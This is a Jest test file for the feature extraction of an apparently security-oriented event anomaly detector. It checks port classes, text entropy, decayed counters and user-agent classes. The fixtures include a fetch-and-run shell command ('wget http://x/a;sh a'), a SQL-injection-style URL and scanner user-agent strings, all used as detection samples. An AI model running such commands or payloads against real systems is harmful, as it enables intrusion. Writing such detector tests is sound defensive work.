import { createHash } from 'node:crypto'
import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import type { Behaviour, Event } from '../../schemas/generated.ts'
import { anyEvent, makeEvent } from '../../test/support/events.ts'
import type { Observation } from '../detector.ts'
import {
  FEATURE_COUNT,
  featureDocs,
  featureHash,
  featureNames,
  featureRows,
  writeFeatures,
} from './features.ts'
import { observe } from './observe.ts'
import { advance } from './state.ts'

const T0 = 1_700_000_000_000

const rowOf = (observation: Observation): Record<string, number> => {
  const row = featureRows([observation])
  return Object.fromEntries(featureNames.map((name, i) => [name, row[i] ?? Number.NaN]))
}

const first = (fields: Partial<Event>) => rowOf({ event: makeEvent(fields), before: null })

describe('features', () => {
  it('have a name of their own and a line that says what each is', () => {
    expect(new Set(featureNames).size).toBe(FEATURE_COUNT)
    for (const name of featureNames) expect(featureDocs[name]).toMatch(/\.$/)
  })

  it('tell absent from zero', () => {
    expect(first({ bytesIn: null, durationMs: null, url: null, dstPort: null })).toMatchObject({
      bytes_in: -1,
      duration: -1,
      url_length: -1,
      url_entropy: -1,
      port_class: -1,
    })
    expect(first({ bytesIn: 0, durationMs: 0, url: '', dstPort: 443 })).toMatchObject({
      bytes_in: 0,
      duration: 0,
      url_length: 0,
      url_entropy: 0,
      port_class: 0,
    })
  })

  it('describe texts by length, entropy and kinds of characters', () => {
    const row = first({ url: 'ab%%', query: 'a1', command: 'aaaa' })
    expect(row['url_length']).toBeCloseTo(Math.log(5), 5)
    expect(row['url_entropy']).toBeCloseTo(1.5, 5)
    expect(row['url_symbols']).toBe(0.5)
    expect(row['query_digits']).toBe(0.5)
    expect(row['command_entropy']).toBe(0)
    expect(first({ query: 'a.b.example' })['query_labels']).toBeCloseTo(Math.log(4), 5)
    expect(first({ user: 'x9y8' })).toMatchObject({ user_digits: 0.5, user_entropy: 2 })
    expect(first({ fileName: 'aabb' })).toMatchObject({ file_entropy: 1 })
    expect(first({ url: 'a1' })).toMatchObject({ url_digits: 0.5 })
  })

  it.each([
    [22, 0],
    [700, 1],
    [4444, 2],
    [60_000, 3],
    [0, 1],
    [-1, -1],
    [70_000, -1],
  ])('put port %d into class %d', (dstPort, expected) => {
    expect(first({ dstPort })['port_class']).toBe(expected)
  })

  it('read the counters just before the event, decayed to its time', () => {
    const before = advance(null, makeEvent({ time: T0, bytesIn: 100 }))
    const row = rowOf({
      event: makeEvent({ time: T0 + 60_000, dstPort: 23, user: 'root', type: 'x', dstIp: '192.0.2.9' }),
      before,
    })
    expect(row['gap']).toBeCloseTo(Math.log1p(60), 5)
    for (const name of ['events', 'failures', 'failed_logins', 'new_ports', 'new_hosts', 'new_users']) {
      expect(row[`${name}_1m`]).toBeCloseTo(Math.log1p(0.5), 5)
      expect(row[`${name}_1h`]).toBeCloseTo(Math.log1p(2 ** (-1 / 60)), 5)
    }
    for (const name of ['events_1d', 'failures_1d'])
      expect(row[name]).toBeCloseTo(Math.log1p(2 ** (-1 / 1440)), 5)
    expect(row['bytes_1m']).toBeCloseTo(Math.log1p(50), 5)
    expect(row['bytes_1h']).toBeCloseTo(Math.log1p(100 * 2 ** (-1 / 60)), 5)
    for (const name of ['known_ports', 'known_hosts', 'known_users', 'known_types'])
      expect(row[name]).toBeCloseTo(Math.LN2, 5)
    expect(row).toMatchObject({
      first_seen: 0,
      failure_share: 1,
      gap_usual: -1,
      gap_spread: -1,
      gap_change: -1,
    })
    expect(row).toMatchObject({ port_is_new: 1, host_is_new: 1, user_is_new: 0, type_is_new: 1 })
  })

  it('know nothing of an entity before its first event, and tell that from nothing having happened', () => {
    expect(first({})).toMatchObject({
      first_seen: 1,
      gap: -1,
      failure_share: -1,
      port_is_new: -1,
      events_1m: 0,
      known_ports: 0,
    })
    const before = advance(null, makeEvent({ time: T0, outcome: 'success' }))
    expect(rowOf({ event: makeEvent({ time: T0 }), before })).toMatchObject({ gap: 0, failure_share: 0 })
  })

  it('measure a gap against the usual one', () => {
    const before = [0, 60, 120].reduce<Behaviour | null>(
      (state, seconds) => advance(state, makeEvent({ time: T0 + seconds * 1000 })),
      null,
    )
    const row = rowOf({ event: makeEvent({ time: T0 + 120_000 + 6_000 }), before })
    expect(row['gap_usual']).toBeCloseTo(Math.log(61), 5)
    expect(row['gap_spread']).toBeCloseTo(0, 5)
    expect(row['gap_change']).toBeCloseTo(Math.log(61) - Math.log(7), 5)
  })

  it('count calls that keep time', () => {
    const call = (minute: number) =>
      makeEvent({ time: T0 + minute * 60_000, category: 'network', action: 'connect', dstPort: 443 })
    const rows = observe([0, 1, 2, 3].map(call)).map(rowOf)
    expect(rows.map(row => row['regular_calls'])).toEqual([0, 1, 2, 3])
    expect(rows[0]?.['call_interval']).toBe(-1)
    expect(rows[3]?.['call_interval']).toBeCloseTo(Math.log(61), 5)
    expect(first({ category: 'dns', action: 'query' })['regular_calls']).toBe(-1)
  })

  it('tell kinds of actions and of services', () => {
    expect(first({ action: 'login', service: 'ssh' })).toMatchObject({
      action_connect: 0,
      action_execute: 0,
      service_remote: 1,
      service_web: 0,
      service_other: 0,
    })
    expect(first({ action: 'execute', service: null })).toMatchObject({
      action_execute: 1,
      service_remote: -1,
      service_other: -1,
    })
    expect(first({ service: 'smb,gssapi,krb' })).toMatchObject({ service_files: 1 })
    expect(first({ service: 'gopher' })).toMatchObject({ service_other: 1, service_infrastructure: 0 })
  })

  it.each([
    [null, -1],
    ['Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101', 0],
    ['SSH-2.0-OpenSSH_9.6', 0],
    ['curl/8.5.0', 1],
    ['SSH-2.0-Go', 1],
    ['my own client', 2],
    ['', 2],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine)', 3],
    [`${'x'.repeat(300)}nmap`, 2],
  ])('put user agent %j into class %d', (userAgent, expected) => {
    expect(first({ userAgent })['agent_class']).toBe(expected)
    expect(first({ userAgent })['agent_class']).toBe(expected)
  })

  it('never hold an address or a clock time', () => {
    const shifted = (fields: Partial<Event>, by: number) =>
      observe([makeEvent({ ...fields, time: T0 + by }), makeEvent({ ...fields, time: T0 + by + 5000 })])
    const other = { srcIp: '198.51.100.7', entity: 'ip:198.51.100.7', dstIp: '198.51.100.8', srcPort: 1 }
    expect(featureRows(shifted(other, 977_000_000))).toEqual(featureRows(shifted({}, 0)))
  })

  it('are finite for every event, and the same each time', () => {
    fc.assert(
      fc.property(fc.array(anyEvent(), { minLength: 1, maxLength: 10 }), events => {
        const rows = featureRows(observe(events))
        expect(rows.every(Number.isFinite)).toBe(true)
        expect(featureRows(observe(events))).toEqual(rows)
      }),
    )
  })

  it('write one row and nothing beside it', () => {
    const out = new Float32Array(FEATURE_COUNT + 2).fill(7)
    const observation = { event: makeEvent(), before: null }
    writeFeatures(observation, out, 1)
    expect([out[0], out.at(-1)]).toEqual([7, 7])
    expect(out.slice(1, -1)).toEqual(featureRows([observation]))
  })

  it('keep their values as long as they keep their hash', () => {
    const events = [
      makeEvent(),
      makeEvent({ time: T0 + 2_000, dstPort: 2222, user: 'admin', outcome: 'success' }),
      makeEvent({ time: T0 + 9_000, type: 'shell', category: 'command', command: 'wget http://x/a;sh a' }),
      makeEvent({ time: T0 - 500, type: 'dns', category: 'dns', transport: 'udp', query: 'a9f3.example' }),
      makeEvent({
        time: T0 + 9_500,
        category: 'web',
        url: '/?q=%27--',
        userAgent: 'curl/8',
        dstPort: 60_000,
      }),
      makeEvent({
        time: T0 + 9_900,
        category: 'file',
        fileName: 'a.elf',
        bytesIn: 0,
        bytesOut: 4096,
        packets: 9,
      }),
      makeEvent({
        time: T0 + 7_200_000,
        category: 'alert',
        sourceSeverity: 3,
        durationMs: 12.5,
        dstPort: 500,
      }),
    ]
    // Rounded, so that only a changed definition shows. When this fails, raise FEATURE_VERSION and train anew.
    const values = Array.from(featureRows(observe(events)), value => value.toFixed(4))
    const digest = createHash('sha256').update(values.join()).digest('hex')
    expect({ hash: featureHash.slice(0, 16), digest: digest.slice(0, 16) }).toEqual({
      hash: '48712ad2e65dd21e',
      digest: '3ad5e5aebb95dcfd',
    })
  })
})
